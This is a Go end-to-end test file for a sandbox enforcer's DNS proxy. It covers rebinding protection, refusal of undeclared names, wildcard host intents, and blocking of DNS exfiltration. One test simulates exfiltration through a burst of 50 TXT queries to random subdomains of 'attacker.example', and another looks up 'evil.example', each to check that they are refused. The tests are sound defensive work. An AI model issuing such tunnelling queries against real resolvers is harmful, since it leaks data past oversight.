package e2e

import (
	"context"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/miekg/dns"

	"github.com/klocklabs/klock/enforcer/eventlog"
	"github.com/klocklabs/klock/internal/testutil"
	"github.com/klocklabs/klock/policy"
	"github.com/klocklabs/klock/test/internal/harness"
)

// testDNS is a name server the test runs: svc.test's first A answer is
// first, every later one then; every query is recorded.
type testDNS struct {
	mu          sync.Mutex
	first, then string
	answered    int
	queries     []string
	addr        string
}

func startTestDNS(t *testing.T, first, then string) *testDNS {
	t.Helper()
	d := &testDNS{first: first, then: then}
	pc, ln := testutil.UDPAndTCP(t, "127.0.0.1")
	d.addr = pc.LocalAddr().String()
	h := dns.HandlerFunc(d.serve)
	for _, s := range []*dns.Server{{PacketConn: pc, Handler: h}, {Listener: ln, Handler: h}} {
		go func() { _ = s.ActivateAndServe() }()
		t.Cleanup(func() { _ = s.Shutdown() })
	}
	return d
}

func (d *testDNS) serve(w dns.ResponseWriter, req *dns.Msg) {
	q := req.Question[0]
	d.mu.Lock()
	d.queries = append(d.queries, dns.TypeToString[q.Qtype]+" "+q.Name)
	m := new(dns.Msg)
	m.SetReply(req)
	if strings.EqualFold(q.Name, "svc.test.") && q.Qtype == dns.TypeA {
		a := d.first
		if d.answered > 0 {
			a = d.then
		}
		d.answered++
		m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(a)})
	}
	if strings.HasSuffix(strings.ToLower(q.Name), ".wild.test.") && q.Qtype == dns.TypeA {
		m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(d.first)})
	}
	d.mu.Unlock()
	_ = w.WriteMsg(m)
}

func (d *testDNS) seen() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.queries...)
}

// listenAt listens on addr:port (port 0: any) and reports whether a
// connection came.
func listenAt(t *testing.T, addr string, port int) *tcpListener {
	t.Helper()
	ln, err := net.ListenTCP("tcp4", &net.TCPAddr{IP: net.ParseIP(addr), Port: port})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	return &tcpListener{ln: ln, port: ln.Addr().(*net.TCPAddr).Port}
}

// The test's services listen on the host's loopback, which the session's
// DNS proxy withholds from an answer unless the manifest declares the
// address (DNS rebinding, TestDNSRebindingIsRefused): the tests that
// answer one declare it on the discard port, which nothing uses, so only
// the answers open the services' ports.
func declareLoop(addrs ...string) []string {
	var out []string
	for _, a := range addrs {
		out = append(out, "CONSUMES NET:"+a+":9/tcp")
	}
	return out
}

// startResolve is what the session resolves svc.test to at its start: an
// address with no listener, so only the proxy's answers reach one.
func startResolve(context.Context, string) ([]netip.Addr, error) {
	return []netip.Addr{netip.MustParseAddr("127.0.0.30")}, nil
}

// TestHostNameFollowsDNS: a strict agent that declared
// svc.test:PORT/tcp looks it up through the session's DNS proxy (its
// /etc/resolv.conf names the proxy, the proxy the test's server) and
// connects to the answered address before and after the answer changes;
// a connect to an address it was never answered is refused and kills.
func TestHostNameFollowsDNS(t *testing.T) {
	w := harness.NewWorld(t)
	a := listenAt(t, "127.0.0.31", 0)
	b := listenAt(t, "127.0.0.32", a.port)
	never := listenAt(t, "127.0.0.33", a.port)
	d := startTestDNS(t, "127.0.0.31", "127.0.0.32")
	port := strconv.Itoa(a.port)
	steps := []string{"resolve-dial:svc.test>" + port, "resolve-dial:svc.test>" + port, "tcp:127.0.0.33:" + port}
	o := w.Run(harness.Spec{Intents: append(append(harness.ProbeIntents(), "CONSUMES NET:svc.test:"+port+"/tcp"), declareLoop("127.0.0.31", "127.0.0.32")...),
		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
		DNSUpstreams: []string{d.addr}, Resolve: startResolve})
	if o.Probe[steps[0]] != "ok" || !a.accepted() {
		t.Errorf("first answer (127.0.0.31): probe %q, accepted %v\n%s\nDNS saw %v", o.Probe[steps[0]], a.accepted(), o.Dump(), d.seen())
	}
	if o.Probe[steps[1]] != "ok" || !b.accepted() {
		t.Errorf("after the change (127.0.0.32): probe %q\n%s\nDNS saw %v", o.Probe[steps[1]], o.Dump(), d.seen())
	}
	// The strict kill may come before the probe prints its refusal.
	if got := o.Probe[steps[2]]; got != "" && got != harness.Refusal() && got != "EPERM" || never.accepted() {
		t.Errorf("a never answered address: probe %q, want it refused", got)
	}
	tr := "CONSUMES NET:127.0.0.33:" + port + "/tcp"
	if !o.Res.Killed || o.Violation(tr) == nil {
		t.Errorf("strict session not killed for %s\n%s", tr, o.Dump())
	}
	// The queries went to the proxy, under the baseline's DNS intents.
	dnsUses := false
	for _, in := range o.Log.Baseline {
		dnsUses = dnsUses || in.Origin == policy.OriginDNS && in.Uses > 0
	}
	if !dnsUses {
		t.Errorf("the queries are not counted under a %s intent: %+v", policy.OriginDNS, o.Log.Baseline)
	}
	if len(d.seen()) < 2 {
		t.Errorf("the test's DNS server saw %v, want the two lookups of svc.test", d.seen())
	}
}

// TestUndeclaredNameIsRefusedAndKills: a query for a name no intent
// declares is answered REFUSED, never forwarded, and kills a strict
// session as CONSUMES NET:<name>:53/udp.
func TestUndeclaredNameIsRefusedAndKills(t *testing.T) {
	w := harness.NewWorld(t)
	d := startTestDNS(t, "127.0.0.31", "127.0.0.31")
	steps := []string{"lookup:evil.example", "read:/etc/hostname"}
	hub := eventlog.NewHub("test", 0)
	rd := hub.Subscribe(eventlog.Filter{}, true, 0)
	o := w.Run(harness.Spec{Intents: append(harness.ProbeIntents(), "CONSUMES NET:svc.test:80/tcp"),
		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
		DNSUpstreams: []string{d.addr}, Resolve: startResolve, Events: hub})
	hub.Close()
	// The event stream says so too: a dns.refused record of the name.
	refused := false
	for r, err := rd.Next(context.Background()); err == nil; r, err = rd.Next(context.Background()) {
		refused = refused || r.Kind == eventlog.KindDNSRefused && r.Op.Object == "NET:evil.example:53/udp"
	}
	if !refused {
		t.Error("no dns.refused record of evil.example")
	}
	if o.Probe[steps[0]] == "ok" {
		t.Errorf("evil.example resolved\n%s", o.Dump())
	}
	tr := "CONSUMES NET:evil.example:53/udp"
	if !o.Res.Killed || o.Violation(tr) == nil {
		t.Errorf("strict session not killed for %s\n%s", tr, o.Dump())
	}
	if q := d.seen(); len(q) != 0 {
		t.Errorf("the test's DNS server received %v", q)
	}
}

// TestNoDNSExfiltration: 50 TXT queries for random subdomains of an
// undeclared domain from a permissive session (which goes on running):
// the test's server receives none; each is a refused name in the log. A
// learning run writes the name the agent asked for, not the address.
func TestNoDNSExfiltration(t *testing.T) {
	w := harness.NewWorld(t)
	a := listenAt(t, "127.0.0.31", 0)
	d := startTestDNS(t, "127.0.0.31", "127.0.0.31")
	port := strconv.Itoa(a.port)
	steps := []string{"txtburst:attacker.example>50", "resolve-dial:svc.test>" + port}
	// A prefix: the learned manifest must not name 127.0.0.31 itself.
	o := w.Run(harness.Spec{Mode: policy.ModePermissive, Intents: append(append(harness.ProbeIntents(), "CONSUMES NET:svc.test:1/tcp"), declareLoop("127.0.0.30/31")...),
		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
		DNSUpstreams: []string{d.addr}, Resolve: startResolve})
	if o.Res.Killed {
		t.Fatalf("permissive session killed\n%s", o.Dump())
	}
	for _, q := range d.seen() {
		if strings.Contains(q, "attacker") {
			t.Errorf("the test's DNS server received %s", q)
		}
	}
	n := 0
	for _, v := range o.Log.Violations {
		if strings.HasSuffix(v.Triple, ".attacker.example:53/udp") {
			n++
		}
	}
	if n < 50 {
		t.Errorf("%d refused names in the log, want 50\n%s", n, o.Dump())
	}
	learned := string(o.Res.Learned)
	if !strings.Contains(learned, "CONSUMES NET:svc.test:"+port+"/tcp") || strings.Contains(learned, "- CONSUMES NET:127.0.0.31") {
		t.Errorf("learned manifest does not name svc.test:%s by its name:\n%s", port, learned)
	}
}

// TestWildcardHostFollowsDNS: a *.wild.test intent has no address at the
// session's start; a name under it the agent looks up is answered, and its
// address is reachable on the intent's port only.
func TestWildcardHostFollowsDNS(t *testing.T) {
	w := harness.NewWorld(t)
	a := listenAt(t, "127.0.0.31", 0)
	other := listenAt(t, "127.0.0.31", 0)
	d := startTestDNS(t, "127.0.0.31", "127.0.0.31")
	port := strconv.Itoa(a.port)
	steps := []string{"resolve-dial:api.eu.wild.test>" + port, "resolve-dial:api.eu.wild.test>" + strconv.Itoa(other.port)}
	o := w.Run(harness.Spec{Intents: append(append(harness.ProbeIntents(), "CONSUMES NET:*.wild.test:"+port+"/tcp"), declareLoop("127.0.0.31")...),
		Command: append([]string{harness.Probe}, steps...), Env: []string{"GODEBUG=netdns=go"},
		DNSUpstreams: []string{d.addr}, Resolve: func(context.Context, string) ([]netip.Addr, error) {
			t.Error("a wildcard host was resolved at the session's start")
			return nil, nil
		}})
	if o.Probe[steps[0]] != "ok" || !a.accepted() {
		t.Errorf("api.eu.wild.test on the declared port: probe %q\n%s\nDNS saw %v", o.Probe[steps[0]], o.Dump(), d.seen())
	}
	tr := "CONSUMES NET:127.0.0.31:" + strconv.Itoa(other.port) + "/tcp"
	if other.accepted() || !o.Res.Killed || o.Violation(tr) == nil {
		t.Errorf("the answered address on an undeclared port: not refused and killed for %s\n%s", tr, o.Dump())
	}
}
